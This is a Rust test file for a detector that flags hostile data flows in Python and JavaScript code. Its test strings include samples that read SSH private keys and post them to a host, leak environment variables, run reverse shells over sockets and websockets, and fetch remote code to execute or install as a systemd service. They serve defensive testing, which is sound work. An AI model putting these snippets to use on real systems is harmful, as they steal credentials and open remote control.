//! Programs in, chains out.

use super::{Dialect, LIMITS, chains};
use crate::{Rule, shell::Start};
use proptest::prelude::*;

fn found(dialect: Dialect, text: &str) -> Vec<(Rule, u32)> {
    let mut found: Vec<_> = chains(text, dialect, Start::Asked, &mut LIMITS.clone())
        .into_iter()
        .map(|chain| (chain.rule, chain.last_line()))
        .collect();
    found.dedup();
    found
}

fn rules(dialect: Dialect, text: &str) -> Vec<Rule> {
    let mut rules: Vec<_> = found(dialect, text).into_iter().map(|(rule, _)| rule).collect();
    rules.dedup();
    rules
}

/// Each text holds the chain of the rule.
fn all_are(dialect: Dialect, rule: Rule, texts: &[&str]) {
    for text in texts {
        let found = rules(dialect, text);
        assert!(found.contains(&rule), "{found:?} is not {rule:?}:\n{text}");
    }
}

/// No text holds a chain that blocks.
fn all_are_honest(dialect: Dialect, texts: &[&str]) {
    for text in texts {
        assert_eq!(rules(dialect, text), [], "{text}");
    }
}

mod handed_on;
mod hostile;
mod javascript;
mod programs;
mod python;
mod skill;

#[test]
fn a_chain_names_its_steps_with_their_lines() {
    let text = "import requests\n\ndata = open('/root/.ssh/id_rsa').read()\nrequests.post(\n    'https://vendor.example/x', data=data)\n";
    let all = chains(text, Dialect::Python, Start::Asked, &mut LIMITS.clone());
    let [chain] = all.as_slice() else { panic!("{all:?}") };
    let steps: Vec<_> = chain.steps.iter().map(|step| (step.line, step.what.as_str())).collect();
    assert_eq!(
        steps,
        [(3, "reads /root/.ssh/id_rsa"), (4, "sends it to https://vendor.example/…")]
    );
}

#[test]
fn hostile_nesting_is_bounded_and_said() {
    let many = 10_000;
    // Whether something is cut, which must be said then.
    for (dialect, text, is_cut) in [
        (Dialect::JavaScript, "(".repeat(many), true),
        (Dialect::JavaScript, "a(".repeat(many) + &")".repeat(many), true),
        (Dialect::JavaScript, "[{a:".repeat(many), true),
        (Dialect::JavaScript, "`${".repeat(many), true),
        (Dialect::JavaScript, "x=>".repeat(many), true),
        (Dialect::JavaScript, "if(a)".repeat(many), true),
        (Dialect::JavaScript, "a?b:".repeat(many), false),
        (Dialect::JavaScript, "a.b".to_owned() + &".c()".repeat(many), false),
        (Dialect::JavaScript, "a=".repeat(many), true),
        (Dialect::JavaScript, "function f(){".repeat(many), true),
        (Dialect::JavaScript, "x=[x,x];".repeat(many), false),
        (Dialect::JavaScript, "x={a:x};x=x.y;".repeat(many), false),
        (Dialect::JavaScript, "class A{a=".repeat(many), true),
        (Dialect::JavaScript, "await!-".repeat(many), false),
        (Dialect::JavaScript, "for(const function(){".repeat(40), true),
        (Dialect::JavaScript, "/[".repeat(200_000), true),
        (
            Dialect::JavaScript,
            format!("function f({}){{}}", "a,".repeat(2_000))
                + &(0..400).map(|n| format!("f({n});")).collect::<String>(),
            true,
        ),
        (
            Dialect::JavaScript,
            format!("x=[{}];y=", "1,".repeat(4_096)) + &"x+".repeat(many) + "x",
            true,
        ),
        (
            Dialect::Python,
            format!("x = '{}'\n", "{".repeat(60_000)) + &"x.format(1)\n".repeat(20),
            false,
        ),
        (
            Dialect::JavaScript,
            format!("s='{}';l=[{}];function f(a){{}}", "s".repeat(20_000), "s,".repeat(500))
                + &"f(l);".repeat(many),
            true,
        ),
        (Dialect::Python, "[".repeat(many), true),
        (Dialect::Python, "f'{".repeat(many), true),
        (Dialect::Python, "lambda:".repeat(many), true),
        (Dialect::Python, "if a:".repeat(many), true),
        (Dialect::Python, (0..400).map(|n| format!("{}if a:\n", " ".repeat(n))).collect(), true),
        (Dialect::Python, "x = [x]\nx = x + x\n".repeat(many / 4), false),
        (Dialect::Python, "not ".repeat(many), false),
        (Dialect::Python, "a if b else ".repeat(many), false),
        (Dialect::Python, "s = 'ab'\n".to_owned() + &"s = s + s\n".repeat(many / 4), true),
        (
            Dialect::Python,
            (0..40)
                .map(|n| {
                    format!("def f{n}(a):\n    return f{m}(a + 'x') + f{m}(a + 'y')\n", m = n + 1)
                })
                .collect::<String>()
                + "f0('')\n",
            true,
        ),
    ] {
        let thread = std::thread::Builder::new().stack_size(2 << 20);
        let run = thread.spawn(move || {
            let mut limits = LIMITS;
            let begin: String = text.chars().take(30).collect();
            let found = chains(&text, dialect, Start::Asked, &mut limits);
            (begin, found, limits.too_deep || limits.exhausted)
        });
        let (begin, found, is_said) = run.unwrap().join().unwrap();
        assert_eq!(found, [], "{begin}");
        assert_eq!(is_said, is_cut, "{begin}");
    }
}

#[test]
fn data_that_is_lost_in_deep_calls_is_said() {
    let program = |first: &str, calls: usize| {
        let functions: String =
            (0..calls).map(|n| format!("def f{n}(a):\n    f{m}(a)\n", m = n + 1)).collect();
        format!("{functions}def f{calls}(a):\n    print(a)\nf0({first})\n")
    };
    for (first, calls, is_said) in [
        ("open('/root/.ssh/id_rsa').read()", 40, true),
        ("open('/root/.ssh/id_rsa').read()", 10, false),
        ("open('notes.md').read()", 40, false),
    ] {
        let mut limits = LIMITS;
        let _ = chains(&program(first, calls), Dialect::Python, Start::Asked, &mut limits);
        assert_eq!(limits.too_deep, is_said, "{first} {calls}");
    }
}

#[test]
fn a_loop_that_selects_variables_does_not_send_the_environment() {
    let program = |condition: &str| {
        format!(
            "import os, requests\ncfg = {{}}\nfor k, v in os.environ.items():\n    if {condition}:\n        cfg[k] = v\nrequests.post('https://vendor.example', json=cfg)\n"
        )
    };
    let honest = [program("k.startswith('APP_')"), program("k in ('CI', 'LANG')")];
    all_are_honest(Dialect::Python, &[&honest[0], &honest[1]]);
    for condition in ["k", "k != 'PATH'", "not k.startswith('_')", "'TOKEN' in k"] {
        all_are(Dialect::Python, Rule::EnvironmentSent, &[&program(condition)]);
    }
}

#[test]
fn many_decoys_do_not_hide_a_secret() {
    let decoys: String = (0..9)
        .map(|n| format!("d += requests.get('https://a{n}.vendor.example').text\n"))
        .collect();
    let before = format!("import requests\nd = ''\n{decoys}");
    let after = "requests.post('https://vendor.example', data=d)\n";
    let secret = "d += open('/root/.ssh/id_rsa').read()\n";
    all_are(Dialect::Python, Rule::SecretSent, &[&format!("{before}{secret}{after}")]);
    all_are_honest(
        Dialect::Python,
        &[&format!("{before}{after}"), &format!("{before}d += open('notes.md').read()\n{after}")],
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]
    #[test]
    fn any_text_is_read_on_a_small_stack(parts in proptest::collection::vec(prop_oneof![
        proptest::sample::select(vec![
            "(", ")", "[", "]", "{", "}", "`", "${", "'", "\"", "f'", "'''", "=>", "=", ":", ",", ";", ".", "?", "?.", "...",
            "\n", "\n    ", "\n        ", "def f(a):", "class A:", "if", "else", "for x in", "for (const x of", "function f(a)", "return ",
            "lambda a: ", "async ", "await ", "import os", "from os import system as s", "with open(p) as f:", "eval", "exec",
            "require('child_process')", "process.env", "os.environ", "fetch(u)", ".then(", "x", "y", "self", "+", "%", "/", "<", ">", "\\", "[::-1]", "#", "//", "/*", "1", "0x41", "é",
        ]).prop_map(str::to_owned),
        any::<char>().prop_map(String::from),
    ], 0..400)) {
        let text = parts.concat();
        for dialect in [Dialect::JavaScript, Dialect::Python] {
            let text = text.clone();
            let thread = std::thread::Builder::new().stack_size(2 << 20);
            let run = thread.spawn(move || chains(&text, dialect, Start::Asked, &mut LIMITS.clone()));
            prop_assert!(run.unwrap().join().is_ok());
        }
    }
}

#[test]
fn what_a_host_says_is_no_command_where_it_is_an_argument() {
    let js = "const net = require('net'), cp = require('child_process');\nconst c = net.connect(7000, 'events.vendor.example');\n";
    let py = "import socket, subprocess, os\ns = socket.create_connection(('events.vendor.example', 7000))\nd = s.recv(1024).decode()\n";
    let ws = "import asyncio, json, subprocess, websockets\nasync def main():\n    async with websockets.connect('wss://jobs.vendor.example/ws') as ws:\n        async for m in ws:\n";
    all_are_honest(
        Dialect::JavaScript,
        &[&format!(
            "{js}c.on('data', d => {{ cp.execFile('notify-send', ['Event', d.toString()], (e, out) => {{ c.write(out); }}); }});"
        )],
    );
    all_are_honest(
        Dialect::Python,
        &[
            &format!("{py}out = subprocess.check_output(['git', 'log', '-1', d])\ns.sendall(out)"),
            &format!("{py}os.system('say ' + d)"),
            &format!(
                "{ws}            job = json.loads(m)\n            out = subprocess.run(['pandoc', job['in']], capture_output=True)\n            await ws.send(out.stdout)\n"
            ),
        ],
    );
    all_are(
        Dialect::JavaScript,
        Rule::ReverseShell,
        &[
            &format!(
                "{js}c.on('data', d => {{ cp.exec(d.toString(), (e, out) => {{ c.write(out); }}); }});"
            ),
            &format!(
                "{js}c.on('data', d => {{ cp.execFile('sh', ['-c', d.toString()], (e, out) => {{ c.write(out); }}); }});"
            ),
            &format!(
                "{js}c.on('data', d => {{ cp.exec(`${{d}} 2>&1`, (e, out) => {{ c.write(out); }}); }});"
            ),
        ],
    );
    all_are(
        Dialect::Python,
        Rule::ReverseShell,
        &[
            &format!("{py}out = subprocess.check_output(['bash', '-c', d])\ns.sendall(out)"),
            &format!("{py}out = subprocess.check_output(d.split())\ns.sendall(out)"),
            &format!("{py}os.system('cd /tmp; ' + d)"),
            &format!(
                "{ws}            out = subprocess.run(m, shell=True, capture_output=True)\n            await ws.send(out.stdout)\n"
            ),
        ],
    );
}

#[test]
fn a_model_that_is_fetched_is_shown_and_code_that_is_fetched_unseen_blocks() {
    let text = |run: &str| {
        format!(
            "import requests, pickle\ntry:\n    {run}(requests.get('https://models.vendor.example/m').content)\nexcept Exception:\n    pass\n"
        )
    };
    assert_eq!(rules(Dialect::Python, &text("pickle.loads")), [Rule::FetchEvaluated]);
    assert_eq!(rules(Dialect::Python, &text("exec")), [Rule::UnattendedCode]);
    let start = "import os, requests\nopen(os.path.expanduser('~/.config/systemd/user/a.service'), 'w').write(requests.get('https://HOST/a').text)";
    assert_eq!(rules(Dialect::Python, &start.replace("HOST", "dl.vendor.example")), []);
    all_are(Dialect::Python, Rule::FetchRun, &[&start.replace("HOST", "203.0.113.9")]);
}
